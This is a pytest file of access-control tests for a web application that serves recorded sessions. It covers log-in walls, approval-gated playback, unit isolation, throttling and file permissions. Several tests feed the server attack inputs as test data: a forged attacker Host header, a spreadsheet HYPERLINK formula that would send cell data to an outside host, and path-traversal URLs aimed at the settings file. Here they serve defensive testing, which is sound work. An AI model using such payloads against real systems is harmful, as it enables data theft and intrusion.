"""The web application's rules of access over plain HTTP against the real server (ACCESS): no URL without
logging in, 403 for the playlist and every segment without an approval, other units' sessions not found,
traversal and unknown ids refused, log-ins throttled, files private."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import stat
import tarfile
import urllib.error
import urllib.request

import av
import pytest

from central.audit import AUDIT_FILE
from central.web.settings import SECRET_FILE, WEB_DB
from evidence.verify import verify_session
from tests.central.web.conftest import ACCOUNTS, PASSWORD, Site


def name(key: str) -> str:
    return ACCOUNTS[key][0]


def content_urls(site: Site) -> list[str]:
    segments = sorted(p.name for p in (site.recorded.central_dir / "media").iterdir())
    return [site.page + "play.json", site.page + "originals.tar",
            *(f"{site.page}seg/{int(s[:-3])}.mp4" for s in segments)]


def test_nothing_is_served_without_logging_in__ACCESS(site: Site) -> None:
    anonymous = site.client()
    for url in [*content_urls(site), "/audit.csv"]:
        assert anonymous.get(url).status == 403, url
    for page in ("/", site.page, "/audit/", "/fleet/", "/approvals/", "/accounts/"):
        reply = anonymous.get(page)
        assert "/login/" in reply.url and "csrfmiddlewaretoken" in reply.text, page
    # A request naming a host the server is not known by (DNS rebinding) is refused outright.
    forged = urllib.request.Request(site.url + "/login/", headers={"Host": "recorder.attacker.example"})
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(forged, timeout=10)
    assert refused.value.code == 400


def test_nothing_is_cached_and_only_the_servers_own_scripts_run__ACCESS(site: Site) -> None:
    supervisor = site.client(name("supervisor"))
    for url in ("/", site.page, site.page + "play.json", site.page + "seg/1.mp4"):
        reply = supervisor.get(url)
        assert reply.status == 200 and reply.headers["Cache-Control"] == "no-store", url
        assert "script-src" not in reply.headers["Content-Security-Policy"]  # default-src 'self' covers it
        assert "default-src 'self'" in reply.headers["Content-Security-Policy"]


def test_each_start_records_the_settings_access_is_governed_by__ACCESS(site: Site) -> None:
    exported = site.client("admin").get("/audit.csv?action=settings").text.lstrip("\ufeff")
    starts = list(csv.DictReader(io.StringIO(exported)))  # this server's, and any other's on the same store
    assert starts and all(r["actor"].startswith("cli:") and r["target"] == "web" for r in starts)
    settings = [json.loads(r["detail"])["web"] for r in starts]
    [ours] = [w for w in settings if w["port"] == int(site.url.rsplit(":", 1)[1])]
    assert (ours["exempt_roles"], ours["approval_hours"], ours["database"]) == (["supervisor", "legal"], 8.0, "sqlite")


def test_a_name_typed_at_log_in_cannot_become_a_formula_in_the_audit_export__ACCESS(site: Site) -> None:
    site.client().login('=HYPERLINK("http://x/?"&A1,"x")', "anything")
    exported = site.client("admin").get("/audit.csv?action=login_failed").text
    assert "'=HYPERLINK" in exported
    assert '"=HYPERLINK' not in exported and ",=HYPERLINK" not in exported and "\n=HYPERLINK" not in exported


def test_a_viewer_without_approval_gets_403_for_the_playlist_and_every_segment__ACCESS(site: Site) -> None:
    viewer = site.client(name("viewer"))
    page = viewer.get(site.page)
    assert page.status == 200 and 'id="request-form"' in page.text and "<video" not in page.text
    urls = content_urls(site)
    assert len(urls) > 4
    for url in urls:
        assert viewer.get(url).status == 403, url


def test_another_units_sessions_are_neither_listed_nor_reachable__ACCESS(site: Site) -> None:
    outsider = site.client(name("outsider"))
    assert "共 0 条" in outsider.get("/").text
    assert outsider.get(site.page).status == 404
    for url in content_urls(site):
        assert outsider.get(url).status == 404, url
    technician = site.client(name("technician"))
    assert technician.get("/").url.endswith("/fleet/")
    assert technician.get("/?q_unit=x").status == 403
    assert technician.get(site.page).status == 404


def test_traversal_and_unknown_ids_are_refused__ACCESS(site: Site) -> None:
    supervisor = site.client(name("supervisor"))
    assert supervisor.get(site.page + "play.json").status == 200
    for url in (f"/s/{site.device}/..%2F..%2Fdevices/", f"/s/..%2F{site.device}/{site.session}/play.json",
                f"/s/{site.device}/{site.session}%2F..%2F..%2F/originals.tar",
                f"/s/{site.device}/20990101T000000Z-aaaaaa/", f"/s/NO-SUCH-DEVICE/{site.session}/play.json",
                site.page + "seg/99999.mp4", "/static/../settings.py", "/static/web/../../settings.py",
                "/static/%2e%2e/%2e%2e/settings.py"):
        reply = supervisor.get(url)
        assert reply.status in (400, 404), (url, reply.status)
        assert b"SECRET_KEY" not in reply.body


def test_an_approval_opens_the_content_until_it_expires__ACCESS(site: Site) -> None:
    viewer, supervisor = site.client(name("viewer")), site.client(name("supervisor"))
    assert viewer.post(site.page + "request", {"reason": "复核 review of the case"}).status == 200
    pending = supervisor.get("/approvals/").text
    request_id = pending.split('id="req-')[1].split('"')[0]
    assert viewer.post(f"/approvals/{request_id}/decide", {"decision": "approve"}).status == 403  # not their role
    assert supervisor.post(f"/approvals/{request_id}/decide", {"decision": "approve", "note": "同意"}).status == 200
    assert supervisor.post(f"/approvals/{request_id}/decide", {"decision": "refuse"}).status == 409

    manifest = viewer.get(site.page + "play.json")
    assert manifest.status == 200
    first = site.page + "seg/1.mp4"
    reply = viewer.get(first)
    assert reply.status == 200 and reply.headers["Content-Type"] == "video/mp4"
    with av.open(io.BytesIO(reply.body), "r") as mp4:
        assert {s.type for s in mp4.streams} == {"video", "audio"}
        assert len(list(mp4.decode(video=0))) > 0

    originals = viewer.get(site.page + "originals.tar")
    assert originals.status == 200
    out = site.server.config_file.parent / "originals"
    with tarfile.open(fileobj=io.BytesIO(originals.body)) as tar:
        tar.extractall(out, filter="data")
    session_dir = out / site.device / site.session
    key = (session_dir / "device.pub").read_text().strip()
    assert verify_session(session_dir, key).ok

    db = sqlite3.connect(site.recorded.rig.store.state_file(WEB_DB))
    with db:
        db.execute("UPDATE web_accessrequest SET expires = '2000-01-01 00:00:00' WHERE id = ?", (request_id,))
    db.close()
    for url in content_urls(site):
        assert viewer.get(url).status == 403, url


def test_a_refused_request_opens_nothing_and_nobody_decides_their_own__ACCESS(site: Site) -> None:
    records, supervisor = site.client(name("records")), site.client(name("supervisor"))
    assert records.get(site.page + "play.json").status == 403
    assert records.post(site.page + "request", {"reason": "归档 filing"}).status == 200
    request_id = supervisor.get("/approvals/").text.split('id="req-')[1].split('"')[0]
    assert supervisor.post(f"/approvals/{request_id}/decide", {"decision": "refuse", "note": "无必要"}).status == 200
    assert records.get(site.page + "play.json").status == 403
    assert "refused" in records.get(site.page).text
    supervisor.post(site.page + "request", {"reason": "自己的 my own"})
    own = supervisor.get("/approvals/").text.split('id="req-')[1].split('"')[0]
    assert supervisor.post(f"/approvals/{own}/decide", {"decision": "approve"}).status == 403


def test_log_ins_are_throttled_per_account__ACCESS(site: Site) -> None:
    # An account of its own to lock: the shared accounts are logged in by the other tests of this server.
    legal = "被锁定的法制员"
    admin = site.client("admin")
    made = admin.post("/accounts/", {"username": legal, "role": "legal", "password": PASSWORD, "unit": "",
                                     "active": "on"})
    assert made.status == 200 and "/accounts/" in made.url, made.text[:500]
    for _ in range(5):
        reply = site.client().login(legal, "wrong password")
        assert reply.status == 403 and "wrong username or password" in reply.text
    locked = site.client().login(legal, PASSWORD)
    assert locked.status == 403 and "too many failed log-ins" in locked.text
    site.client(name("supervisor"))  # the same address, another account: still let in


def test_recordings_working_copies_audit_and_database_are_private__ACCESS(site: Site) -> None:
    site.client(name("viewer"))  # the audit has a record, the database a session
    store = site.recorded.rig.store
    assert stat.S_IMODE(store.root.stat().st_mode) & 0o007 == 0
    plain = sorted((site.recorded.central_dir / "plain").iterdir())
    assert plain
    for path in [*plain, site.recorded.central_dir / "plain"]:
        assert stat.S_IMODE(path.stat().st_mode) & 0o007 == 0, path
    for private in (store.state_file(AUDIT_FILE), store.state_file(WEB_DB), store.state_file(SECRET_FILE)):
        assert stat.S_IMODE(private.stat().st_mode) == 0o600, private


def test_an_account_changes_its_own_password_and_its_other_log_ins_end__ACCESS(site: Site) -> None:
    other = site.client(name("records"))
    me = site.client(name("records"))
    wrong = me.post("/password/", {"current": "not it", "new": "another long passphrase", "again":
                                   "another long passphrase"})
    assert "not your current password" in wrong.text
    weak = me.post("/password/", {"current": PASSWORD, "new": "123", "again": "123"})
    assert "too short" in weak.text
    changed = me.post("/password/", {"current": PASSWORD, "new": "another long passphrase",
                                     "again": "another long passphrase"})
    assert 'id="password-done"' in changed.text and me.get("/").status == 200
    assert "/login/" in other.get("/").url  # the old password's log-in has ended
    assert site.client().login(name("records"), "another long passphrase").url.endswith("/")
    changed_back = me.post("/password/", {"current": "another long passphrase", "new": PASSWORD, "again": PASSWORD})
    assert 'id="password-done"' in changed_back.text
    audit = site.client("admin").get(f"/audit.csv?action=account&target={name('records')}").text
    assert audit.count('own') >= 2 and "another long passphrase" not in audit


def test_a_page_number_past_any_database_is_the_last_page_not_an_error__CLASSIFY(site: Site) -> None:
    huge = "9" * 30
    assert site.client(name("supervisor")).get(f"/?page={huge}").status == 200
    assert site.client("admin").get(f"/audit/?page={huge}").status == 200
